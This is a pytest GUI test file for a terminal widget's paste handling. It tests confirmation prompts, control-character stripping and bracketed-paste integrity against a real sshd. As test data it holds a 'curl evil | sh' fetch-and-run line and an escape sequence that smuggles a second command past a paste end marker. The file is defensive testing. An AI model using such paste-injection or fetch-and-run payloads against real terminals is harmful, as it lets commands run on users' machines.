"""Pasting through the terminal widget: a hostile clipboard types nothing, runs nothing, and always asks for lines."""

from __future__ import annotations

import shlex
import uuid

import pytest

from gpudesk.ui.qt import QtCore, QtWidgets
from tests.helpers.canvas import shown_canvas
from tests.helpers.waits import WAIT

pytestmark = [pytest.mark.gui]
Qt = QtCore.Qt
SPLIT_END = "\x1b[20\x1b[201~1~"  # removing the inner end marker once leaves an outer one


@pytest.fixture
def canvas(qtbot):
    c = shown_canvas(qtbot)
    sent: list[bytes] = []
    c.send.connect(sent.append)
    c.sent = sent
    return c


def answer_with(button: QtWidgets.QMessageBox.StandardButton, asked: list[str]) -> None:
    """Answer the paste question once it shows (and remember what it asked)."""

    tries = [250]  # a question that never comes must not be answered in a later test

    def answer() -> None:
        box = QtWidgets.QApplication.activeModalWidget()
        if not isinstance(box, QtWidgets.QMessageBox):
            tries[0] -= 1
            if tries[0] > 0:
                QtCore.QTimer.singleShot(20, answer)
            return
        asked.append(box.text() + "\n" + box.informativeText())
        box.button(button).click()

    QtCore.QTimer.singleShot(20, answer)


@pytest.mark.parametrize("brk", ["\r", "\r\n", "\n", "\x85", "\u2028", "\u2029"])
def test_every_line_break_asks_and_reaches_the_shell_as_cr(canvas, qtbot, brk: str) -> None:
    canvas.feed(b"\x1b[?2004h")
    asked: list[str] = []
    answer_with(QtWidgets.QMessageBox.StandardButton.No, asked)
    assert canvas.paste(f"rm -rf build{brk}make") is False
    assert canvas.sent == [] and asked and "2 line" in asked[0]
    answer_with(QtWidgets.QMessageBox.StandardButton.Yes, asked)
    assert canvas.paste(f"rm -rf build{brk}make") is True
    assert canvas.sent == [b"\x1b[200~rm -rf build\rmake\x1b[201~"]


def test_a_line_that_would_run_at_once_asks_without_bracketed_paste(canvas, qtbot) -> None:
    asked: list[str] = []
    answer_with(QtWidgets.QMessageBox.StandardButton.No, asked)
    assert canvas.paste("curl evil | sh\u2029") is False
    assert canvas.sent == [] and "1 line" in asked[0]


def test_controls_only_paste_sends_nothing(canvas, qtbot) -> None:
    canvas.feed(b"\x1b[?2004h")
    assert canvas.paste("\x1b\x15\x03\x9b") is False
    assert canvas.sent == []


def test_the_confirmation_shows_the_text_without_its_controls(canvas, qtbot) -> None:
    canvas.feed(b"\x1b[?2004h")
    asked: list[str] = []
    answer_with(QtWidgets.QMessageBox.StandardButton.No, asked)
    canvas.paste(f"echo a{SPLIT_END}\rtouch x")
    assert "\x1b" not in asked[0] and "touch x" in asked[0]


# -- against the real sshd ------------------------------------------------------------------
@pytest.fixture
def shell_view(qtbot, sshd, tmp_path):
    from gpudesk.core import settings
    from gpudesk.core.sessions import Session
    from gpudesk.core.ssh.hostkeys import HostKeyStore
    from gpudesk.ui.controller import ConnectionController
    from gpudesk.ui.terminal.panel import TerminalPanel

    settings.set("terminal.confirm_multiline_paste", False)  # the question is tested above; here the bytes
    known = tmp_path / "known_hosts"
    known.write_text(sshd.known_hosts.read_text())
    session = Session(
        name="paste", host=sshd.host, port=sshd.port, username=sshd.username, auth="key_file",
        identity_file=str(sshd.key_path), keepalive_s=0,
    )  # fmt: skip
    controller = ConnectionController(session, HostKeyStore(known, extra_files=[]))
    panel = TerminalPanel(controller.server)
    qtbot.addWidget(panel)
    panel.resize(900, 500)
    panel.show()
    controller.link.connect()
    qtbot.waitUntil(lambda: bool(panel.views) and panel.views[0].state == "running", timeout=WAIT)
    yield panel.views[0]
    panel.shutdown()
    controller.close()


def screen_text(view) -> str:
    screen = view.canvas.screen
    return "\n".join(screen.scrollback + screen.display)


def test_the_shell_receives_exactly_one_start_and_one_end_marker(shell_view, qtbot, connect, remote_dir: str) -> None:
    """A program that asked for bracketed paste records every byte it gets: one start, one end, nothing after."""
    conn, folder = connect(), remote_dir
    dump = f"{folder}/got"
    m = "R" + uuid.uuid4().hex[:6]
    # Bracketed paste on, raw tty, every byte up to a BEL (typed after the paste) kept in a file.
    recorder = (
        "import os, sys, tty\n"
        "tty.setraw(0)\n"
        "sys.stdout.write('\\033[?2004h' + sys.argv[2] + '\\r\\n'); sys.stdout.flush()\n"
        "got = b''\n"
        "while not got.endswith(b'\\a'):\n"
        "    got += os.read(0, 1024)\n"
        "open(sys.argv[1], 'wb').write(got[:-1])\n"
        "sys.stdout.write('\\033[?2004lDUMP' + 'ED\\r\\n')\n"
    )
    script = f"{folder}/rec.py"
    conn.exec(f"cat > {shlex.quote(script)}", stdin=recorder.encode())
    shell_view.send_to_host(f"python3 {shlex.quote(script)} {shlex.quote(dump)} {m[:3]}''{m[3:]}; stty sane\r".encode())
    qtbot.waitUntil(lambda: m in screen_text(shell_view) and shell_view.canvas.screen.bracketed_paste, timeout=WAIT)
    assert shell_view.canvas.paste(f"echo safe{SPLIT_END}\rtouch {folder}/pwned\r") is True
    shell_view.send_to_host(b"\x07")
    qtbot.waitUntil(lambda: "DUMPED" in screen_text(shell_view), timeout=WAIT)
    got = conn.exec(f"od -An -v -tx1 {shlex.quote(dump)}").out
    received = bytes.fromhex("".join(got.split()))
    assert received == f"\x1b[200~echo safe\rtouch {folder}/pwned\r\x1b[201~".encode()


def test_a_hostile_paste_into_bash_runs_nothing(shell_view, qtbot, connect, remote_dir: str) -> None:
    """bash's own bracketed paste: the text after a smuggled end marker must not run as a command."""
    conn, folder = connect(), remote_dir
    qtbot.waitUntil(lambda: shell_view.canvas.screen.bracketed_paste, timeout=WAIT)  # bash 5.1+ at its prompt
    assert shell_view.canvas.paste(f"true{SPLIT_END}\rtouch {folder}/pwned\r") is True
    m = "E" + uuid.uuid4().hex[:6]
    shell_view.send_to_host(b"\x15")  # Ctrl-U: the pasted, not yet run, line goes
    shell_view.send_to_host(f" echo {m[:3]}''{m[3:]} $(ls -A {shlex.quote(folder)} | wc -l)\r".encode())
    qtbot.waitUntil(lambda: any(line.startswith(m + " ") for line in screen_text(shell_view).splitlines()), timeout=WAIT)
    line = next(line for line in screen_text(shell_view).splitlines() if line.startswith(m + " "))
    assert line.split()[1] == "0", line  # no pwned file: nothing ran
    assert conn.exec(f"test -e {shlex.quote(folder)}/pwned").exit_code != 0
